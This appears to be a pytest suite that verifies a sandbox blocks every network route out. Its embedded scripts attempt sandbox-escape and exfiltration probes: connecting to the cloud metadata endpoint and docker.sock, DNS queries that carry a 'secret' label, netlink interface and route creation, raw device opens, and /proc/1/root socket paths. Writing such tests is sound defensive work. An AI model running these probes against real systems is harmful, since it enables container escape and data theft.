"""Ways out without an allowlist: none, on whatever family of sockets, by whatever call."""

import os
import socket
import tempfile
from pathlib import Path
from uuid import uuid4

import pytest

from tests.ports.sandbox.escape.raw import tries
from tests.ports.sandbox.providers import python, ran
from workflows.ports.sandbox import Sandbox, SandboxRef

pytestmark = pytest.mark.sandbox

SOCKETS = (
    "/run/systemd/resolve/io.systemd.Resolve",
    "/run/systemd/private",
    "/run/nscd/socket",
    "/var/run/nscd/socket",
    "/run/dbus/system_bus_socket",
    "/run/avahi-daemon/socket",
    "/run/docker.sock",
    "/var/run/docker.sock",
    "/tmp/.X11-unix/X0",
)
"""Where services of a host listen."""


async def test_nothing_can_be_reached(sandbox: Sandbox, ref: SandboxRef) -> None:
    abstract = f"\0pawl-{uuid4().hex}"
    with (
        tempfile.TemporaryDirectory() as folder,
        socket.create_server(("127.0.0.1", 0)) as tcp,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.socket(socket.AF_UNIX) as unix,
        socket.socket(socket.AF_UNIX) as hidden,
    ):
        udp.bind(("127.0.0.1", 0))
        unix.bind(f"{folder}/socket")
        hidden.bind(abstract)
        unix.listen()
        hidden.listen()
        udp.settimeout(0.2)
        script = f"""
import socket
def attempt(name, action):
    try:
        action()
        print("reached", name)
    except OSError:
        pass
def connect(family, address):
    s = socket.socket(family); s.settimeout(1); s.connect(address)
attempt("tcp", lambda: connect(socket.AF_INET, ("127.0.0.1", {tcp.getsockname()[1]})))
datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
attempt("udp", lambda: datagrams.sendto(b"x", ("127.0.0.1", {udp.getsockname()[1]})))
attempt("metadata", lambda: connect(socket.AF_INET, ("169.254.169.254", 80)))
attempt("unix", lambda: connect(socket.AF_UNIX, {f"{folder}/socket"!r}))
attempt("abstract", lambda: connect(socket.AF_UNIX, {abstract!r}))
attempt("dns", lambda: socket.getaddrinfo("example.org", 80))
print(open("/proc/net/dev").read().count(":"), "interface")
"""
        view = await ran(sandbox, ref, "j", python(script))
        assert view.err == b""
        assert [line for line in view.out.decode().splitlines() if line.startswith("reached")] in ([], ["reached udp"])
        with pytest.raises(TimeoutError):
            udp.recv(1)
        assert view.out.endswith(b"1 interface\n")


async def test_the_machine_that_hosts_this_one_is_out_of_reach(sandbox: Sandbox, ref: SandboxRef) -> None:
    """vsock knows no network namespaces; io_uring and 32-bit calls would lead around a ban on opening one."""
    script = """
import ctypes, socket
for family in (socket.AF_INET, socket.AF_UNIX, 40):
    try:
        socket.socket(family, socket.SOCK_STREAM).close()
        print(int(family), "opened")
    except OSError as error:
        print(int(family), error.strerror)
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(425, 1, ctypes.create_string_buffer(256)), ctypes.get_errno())
"""
    view = await ran(sandbox, ref, "j", python(script))
    assert view.err == b""
    assert view.out.decode().splitlines() == ["2 opened", "1 opened", "40 Operation not permitted", "-1 1"]


async def test_only_sockets_of_the_sandboxs_own_network_open(sandbox: Sandbox, ref: SandboxRef) -> None:
    """Packet and raw sockets would need rights; families without namespaces would lead to the host."""
    await tries(
        sandbox,
        ref,
        """
harmless = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
for family in range(46):
    for kind in (1, 2, 3, 4, 5, 10):
        for protocol in (0, 1, 58, 255):
            if family in harmless and kind != 3: continue
            if family in (socket.AF_UNIX, socket.AF_NETLINK): continue
            attempt(f"socket {family} {kind} {protocol}", lambda: socket.socket(family, kind, protocol).close())
""",
    )


async def test_netlink_changes_nothing(sandbox: Sandbox, ref: SandboxRef) -> None:
    """No interface, no address, no route, no filter, and no ear on what the kernel tells administrators."""
    await tries(
        sandbox,
        ref,
        """
def asked(protocol, kind, body):
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); s.settimeout(1)
    s.sendto(struct.pack("IHHII", 16 + len(body), kind, 0x605, 1, 0) + body, (0, 0))
    length, what, flags, number, pid, error = struct.unpack_from("IHHIIi", s.recv(4096))
    return error
def named(name): return struct.pack("BxHiII", 0, 0, 0, 0, 0) + struct.pack("HH", 8, 3) + name
kind = lambda name: struct.pack("HH", 4 + 4 + 8, 18) + struct.pack("HH", 4 + 8, 1) + name.ljust(8, b"\\0")
for name in (b"veth", b"dummy", b"macvlan", b"tun", b"wireguar", b"vxlan"):
    refused(f"new interface {name}", asked(0, 16, named(b"abc\\0") + kind(name)))
refused("new address", asked(0, 20, struct.pack("BBBBI", 2, 24, 0, 0, 1) + struct.pack("HH4s", 8, 2, bytes(4))))
refused("new route", asked(0, 24, struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 3, 0, 1, 0)))
for protocol in (9, 12, 15):  # audit, netfilter, events of devices
    def listen():
        s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol); s.bind((0, 1)); s.settimeout(0.3)
        return s.recv(100)
    attempt(f"listen on {protocol}", listen)
import fcntl
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for request in (0x8914, 0x8916, 0x890B, 0x8924, 0x89A2, 0x89F0):
    attempt(hex(request), lambda: fcntl.ioctl(s, request, b"lo".ljust(40, b"\\0")))
for device in ("/dev/net/tun", "/dev/vhost-net", "/dev/vhost-vsock", "/dev/vsock", "/dev/kvm", "/dev/fuse", "/dev/mem",
        "/dev/ppp", "/dev/loop-control", "/dev/mapper/control", "/dev/uinput", "/dev/userfaultfd", "/dev/bus/usb"):
    attempt(device, lambda: os.open(device, os.O_RDWR))
""",
    )


async def test_names_are_not_asked_for(sandbox: Sandbox, ref: SandboxRef) -> None:
    """A name is enough to carry a secret out. Every resolver the C library knows, and every usual server by address."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as dns:
        dns.bind(("127.0.0.1", 0))
        dns.settimeout(0.2)
        port = dns.getsockname()[1]
        await tries(
            sandbox,
            ref,
            f"""
query = b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\7example\\3org\\0\\0\\1\\0\\1"
for server in ("127.0.0.1", "127.0.0.53", "127.0.0.54", "8.8.8.8", "169.254.169.253", "255.255.255.255", "224.0.0.251"):
    def ask(port):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.1)
        if server.startswith("255"): s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        s.sendto(query, (server, port)); return s.recv(100)
    for port in (53, 5353, {port}): attempt(f"{{server}}:{{port}}", lambda: ask(port))
for name in ("secret.example.org", "secret.local", "secret", "host.docker.internal", "_gateway"):
    attempt(name, lambda: socket.getaddrinfo(name, 80))
for path in {SOCKETS!r}:
    attempt(path, lambda: socket.socket(socket.AF_UNIX).connect(path))
for name in ("/tmp/.X11-unix/X0", "/tmp/dbus-0", "/org/kernel/linux/storage/multipathd"):
    attempt("abstract " + name, lambda: socket.socket(socket.AF_UNIX).connect("\\0" + name))
""",
        )
        with pytest.raises(TimeoutError):
            dns.recv(1)


async def test_a_socket_in_a_shared_folder_carries_nothing_between_jobs_and_the_host(
    sandbox: Sandbox, ref: SandboxRef, tmp_path: Path
) -> None:
    """A unix socket is reached through the file system, so the folder of a sandbox must be nobody else's."""
    folder = tmp_path / "sandboxes/one/work"
    if os.geteuid() == 0:
        assert folder.stat().st_uid != 0
    assert (tmp_path / "sandboxes").stat().st_mode & 0o077 == 0
    assert folder.stat().st_mode & 0o077 == 0
    hidden = f"\0pawl-{uuid4().hex}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as listening, tempfile.TemporaryDirectory() as outside:
        listening.bind(hidden)
        other = f"{outside}/socket"
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as named:
            named.bind(other)
            script = f"""
import os, socket
for to in ({hidden!r}, {other!r}, "/proc/1/root" + {other!r}, "/proc/1/cwd" + {other!r}):
    try: socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"secret", to); print("sent to", to)
    except OSError: pass
"""
            assert (await ran(sandbox, ref, "j", python(script))).out == b""
